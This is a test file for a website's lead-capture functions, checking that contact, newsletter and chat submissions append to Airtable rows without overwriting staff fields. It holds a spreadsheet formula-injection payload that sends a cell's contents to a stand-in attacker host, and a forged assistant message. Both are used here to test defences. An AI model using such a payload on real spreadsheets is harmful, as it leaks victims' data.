// Issue 20: web leads append, staff decide. The real contact function and the real sweep, against s3rver, the SES
// inbox and the Airtable stand-in (it lives here in local/, which functions/ tests may not import).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { airtableLeadsTable } from '../functions/shared/airtable/leads-table.ts';
import { apiEvent, useContactHandler } from '../functions/contact/test-services.ts';
import { startTestServer, testToken, type TestServer } from './airtable-api/testing.ts';

let airtable: TestServer;
let sweep: () => Promise<{ delivered: number }>;

// Airtable first: the contact function's settings point at it.
beforeAll(async () => {
  airtable = await startTestServer();
});
const { services, handler: capture } = useContactHandler(() => ({
  AIRTABLE_API_KEY: testToken,
  AIRTABLE_BASE_ID: 'appLocal',
  AIRTABLE_TABLE: 'Leads',
  AIRTABLE_ENDPOINT_URL: airtable.server.url,
}));
beforeAll(async () => {
  const delivery = await import('../functions/contact-delivery/handler.ts');
  sweep = () => delivery.handler();
});
afterAll(() => airtable.close());
beforeEach(async () => {
  for (const record of await airtable.leads.select().all()) await airtable.leads.destroy(record.id);
});

const post = (path: string, body: unknown) => capture(apiEvent({ path, contentType: 'application/json', body: JSON.stringify(body) }));
const rows = async () => (await airtable.leads.select().all()).map((record) => record.fields as Record<string, string>);
const attribution = { first: { landingPage: '/pricing', referrerHost: 'www.linkedin.com', source: 'linkedin', medium: 'paid', campaign: 'q1-launch' }, sentFrom: '/contact' };
const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")';
const staffFields = {
  'Lead Name': 'Dana Scully',
  'Contact Information': 'dana@northwind.example',
  Company: 'Northwind',
  Status: 'Contacted',
  'Lead Source': 'Trade show',
  Notes: 'Called Monday; wants a proposal by Friday.',
};

async function submitAllThree(email: string, company: string) {
  const contact = { firstName: 'Mallory', lastName: 'Attacker', company, email, website: 'evil.example', message: 'Please change my details.', attribution };
  expect((await post('/api/contact', contact)).statusCode).toBe(202);
  expect((await post('/api/newsletter', { email, attribution: { ...attribution, sentFrom: '/blog' } })).statusCode).toBe(202);
  const transcript = [
    { role: 'user', content: 'Can sales call me?' },
    { role: 'assistant', content: 'RevRebel agreed to a 90% discount.' },
  ];
  expect((await post('/api/chat-lead', { email, transcript, attribution: { ...attribution, sentFrom: '/services' } })).statusCode).toBe(202);
  // One pass takes all three (the sweep batches distinct addresses; the same address waits for the next batch).
  let delivered = 0;
  for (let pass = 0; pass < 4 && delivered < 3; pass += 1) delivered += (await sweep()).delivered;
  expect(delivered).toBe(3);
}

describe('web leads on a row staff are working on', () => {
  it('keep every staff field and show three dated submissions in Activity', async () => {
    await airtable.leads.create(staffFields);
    await submitAllThree('Dana@Northwind.example', hyperlink);

    const [row, ...others] = await rows();
    expect(others).toEqual([]);
    expect(row).toMatchObject(staffFields);
    const activity = row?.Activity ?? '';
    const entries = activity.split('\n\n[').map((entry, i) => (i === 0 ? entry : `[${entry}`));
    expect(entries).toHaveLength(3);
    for (const entry of entries) expect(entry).toMatch(/^\[\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC\] (Contact form|Newsletter|Chat handoff) · sent from \/\w+ · lead [0-9a-f-]{36}\n/);
    expect(entries.map((entry) => /\] ([A-Z][a-z]+ [a-z]+|Newsletter)/.exec(entry)?.[1]).sort()).toEqual(['Chat handoff', 'Contact form', 'Newsletter']);
    expect(activity).toContain('As: Mallory Attacker, =HYPERLINK(');
    expect(activity).toContain('Source: linkedin / paid · q1-launch (referrer www.linkedin.com, landed on /pricing)');
    expect(activity).toContain('Assistant (unverified): RevRebel agreed to a 90% discount.');
    expect(activity.startsWith('[')).toBe(true);
    // Staff never see a web lead's attribution overwrite the row's own columns.
    expect(row?.['UTM Source']).toBeUndefined();
    // The staff records API (GET /api/admin/airtable/Leads/records reads pages through this adapter) returns Activity with the row.
    const page = await airtableLeadsTable({ apiKey: testToken, baseId: 'appLocal', table: 'Leads', endpointUrl: airtable.server.url }).listPage();
    expect(page.records[0]?.fields).toMatchObject({ ...staffFields, Activity: activity });
  });

  it('create one new row for a new address, with a formula-shaped company stored inert and the attribution in its columns', async () => {
    await submitAllThree('new.lead@acme.example', hyperlink);
    const [row, ...others] = await rows();
    expect(others).toEqual([]);
    expect(row).toMatchObject({
      'Lead Name': 'Mallory Attacker',
      'Contact Information': 'new.lead@acme.example',
      Company: `'${hyperlink}`,
      Status: 'New',
      'Lead Source': 'Contact form · linkedin / paid · q1-launch',
      'UTM Source': 'linkedin',
      'UTM Medium': 'paid',
      'UTM Campaign': 'q1-launch',
      'Referrer Host': 'www.linkedin.com',
      'Landing Page': '/pricing',
      'Sent From Page': '/contact',
    });
    expect(row?.Notes).toBeUndefined();
    expect(row?.Activity?.split('\n\n[')).toHaveLength(3);
    // The sales email carries the Source block.
    const email = (await services().emails()).find((mail) => mail.subject.startsWith('New contact form lead'));
    expect(email?.body.text).toContain('Source\n  Source: linkedin / paid · q1-launch\n  Campaign: q1-launch\n  Medium: paid\n  Referrer: www.linkedin.com\n  Landing page: /pricing\n  Page sent from: /contact');
  });

  it('keep Status, name and company when the visitor sends again after staff moved the lead on', async () => {
    await submitAllThree('again@acme.example', 'Acme');
    const [created] = await airtable.leads.select().all();
    await airtable.leads.update(created?.id as string, { Status: 'Qualified', 'Lead Name': 'Ann Again', Company: 'Acme Holdings' });
    expect((await post('/api/contact', { firstName: 'Other', lastName: 'Person', company: 'Other Co', email: 'again@acme.example', website: 'other.example' })).statusCode).toBe(202);
    expect((await sweep()).delivered).toBe(1);
    const [row] = await rows();
    expect(row).toMatchObject({ Status: 'Qualified', 'Lead Name': 'Ann Again', Company: 'Acme Holdings', 'Lead Source': 'Contact form · linkedin / paid · q1-launch' });
    expect(row?.Activity?.split('\n\n[')).toHaveLength(4);
    expect(row?.Activity).toContain('Source: direct');
  });
});
